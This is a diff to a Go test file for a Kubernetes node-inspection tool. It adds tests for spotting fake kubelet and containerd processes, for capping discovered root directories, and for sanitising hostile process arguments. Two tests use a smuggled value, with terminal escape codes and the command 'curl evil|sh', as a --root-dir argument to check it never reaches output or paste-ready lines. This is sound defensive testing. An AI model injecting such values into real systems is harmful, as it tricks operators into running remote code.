@@ -12,6 +12,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 	"golang.org/x/sys/unix"
@@ -71,6 +72,7 @@ func (m *machine) process(pid int, name, exe, namespace, table string) {
 	m.link(proc+"exe", exe)
 	m.link(proc+"root", "/")
 	m.link(proc+"ns/mnt", namespace)
+	m.link(proc+"ns/user", "user:[4026531837]")
 	m.write(proc+"mountinfo", table)
 	m.write(proc+"status", "Name:\tx\nCapEff:\t000001ffffffffff\n")
 	m.write(proc+"cgroup", "0::/system.slice/x.service\n")
@@ -146,9 +148,26 @@ func TestRoles(t *testing.T) {
 	m.write("proc/20/status", "CapEff:\t00000000a80425fb\n")
 	m.process(21, "containerd", "/usr/bin/containerd", "mnt:[1]", hostTable)
 	m.write("proc/21/cgroup", "0::/kubepods.slice/kubepods-pod6a6e9d0c_1111_4222_8333_444455556666.slice/cri-containerd-"+id+".scope\n")
+	// What "unshare -Ur" makes has all capabilities, in a user namespace of its own.
+	m.process(22, "kubelet", "/tmp/kubelet", "mnt:[1]", hostTable)
+	m.process(23, "containerd", "/tmp/containerd", "mnt:[1]", hostTable)
+	for _, pid := range []int{22, 23} {
+		name := fmt.Sprintf("proc/%d/ns/user", pid)
+		if err := os.Remove(filepath.Join(m.root, name)); err != nil {
+			t.Fatal(err)
+		}
+		m.link(name, "user:[4026532999]")
+	}
 	got := map[int]Role{}
-	for _, p := range m.take().Host.Processes {
+	s := m.take()
+	for _, p := range s.Host.Processes {
 		got[p.PID] = p.Role
+	}
+	if len(s.Unlikely) != 2 || s.Unlikely[0].PID != 20 || s.Unlikely[1].PID != 22 {
+		t.Errorf("unlikely: %+v", s.Unlikely)
+	}
+	if f := Examine(s).Findings; f[len(f)-1].Level != Note || !strings.Contains(f[len(f)-1].What, "is not taken for one (2 such)") {
+		t.Errorf("they are not named: %+v", f[len(f)-1])
 	}
 	want := map[int]Role{1: "", 10: Kubelet, 11: Kubelet, 12: Kubelet, 13: Runtime, 14: Kubelet, 15: Kubelet, 16: "", 17: Provisioner, 18: Agent, 19: ""}
 	if diff := cmp.Diff(want, got); diff != "" {
@@ -169,12 +188,24 @@ func TestRootDirectories(t *testing.T) {
 		{[]string{"k3s", "agent", "--kubelet-arg=root-dir=/x"}, "/x"},
 		{[]string{"kubelet", "--root-dir=x", "--root-dir"}, "/var/lib/kubelet"},
 	} {
-		if got := rootDirectories(&Process{Role: Kubelet, Args: tt.args}, nil); !slices.Equal(got, []string{tt.want}) {
-			t.Errorf("%q: got %q, want %q", tt.args, got, tt.want)
+		if got, left := rootDirectories(&Process{Role: Kubelet, Args: tt.args}, nil); !slices.Equal(got, []string{tt.want}) || len(left) > 0 {
+			t.Errorf("%q: got %q, want %q, left out %q", tt.args, got, tt.want, left)
 		}
 	}
-	if got := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) {
-		t.Errorf("by mounts: %q", got)
+	if got, left := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) || len(left) > 0 {
+		t.Errorf("by mounts: %q, left out %q", got, left)
+	}
+	// Bytes that would stand in lines to paste, and more than can be.
+	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
+	if got, left := rootDirectories(&Process{Role: Kubelet, Args: []string{"--root-dir=" + evil, "--root-dir=/a b", "--root-dir=/ok"}}, nil); !slices.Equal(got, []string{"/ok"}) || !slices.Equal(left, []string{"/a b", evil}) {
+		t.Errorf("hostile: %q, left out %q", got, left)
+	}
+	table = nil
+	for i := range 20 {
+		table = append(table, tree(t, fmt.Sprintf("29 27 254:16 / /a%02d/pods/x/volumes/kubernetes.io~local-volume/y rw - xfs x rw\n", i))...)
+	}
+	if got, left := rootDirectories(&Process{Role: Kubelet}, table); len(got) != 8 || len(left) != 12 || got[0] != "/a00" {
+		t.Errorf("many: %q, left out %q", got, left)
 	}
 }
 
@@ -244,6 +275,36 @@ func TestProcessesThatEnd(t *testing.T) {
 		if len(f.Processes) > 0 && f.Processes[0].PID <= 10 {
 			t.Errorf("%s: %s", f.Kind, f.What)
 		}
+	}
+}
+
+// TestHostileKubelet: what a process says of itself reaches neither a terminal nor
+// a line to paste.
+func TestHostileKubelet(t *testing.T) {
+	m := newMachine(t)
+	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
+	m.process(10, "kubelet", "/x/kubelet", "mnt:[2]", container("master:1", both, ""))
+	m.args[10] = []string{"kubelet", "--root-dir=" + evil}
+	m.process(12, "local-provision", "/x", "mnt:[3]", "100 90 0:60 / / rw - overlay overlay rw\n101 100 254:1 /mnt/disks /d\\012\\033[2J rw - ext4 /dev/vda1 rw\n")
+	s := m.take()
+	r := Examine(s)
+	blind := 0
+	for _, f := range r.Findings {
+		if strings.ContainsFunc(f.What+strings.Join(f.Do, ""), func(r rune) bool { return !unicode.IsPrint(r) }) {
+			t.Errorf("%s: %q %q", f.Kind, f.What, f.Do)
+		}
+		if strings.Contains(strings.Join(f.Do, "\n"), "curl") {
+			t.Errorf("%s: in a line to paste: %q", f.Kind, f.Do)
+		}
+		if strings.Contains(f.What, `/x\x1b[2J\nnothing found`) {
+			blind++
+		}
+	}
+	if blind != 1 {
+		t.Errorf("it is not said that the directory is left out: %q", s.Blind)
+	}
+	if len(r.Findings) < 4 {
+		t.Errorf("too few findings for this to show anything: %+v", r.Findings)
 	}
 }
 
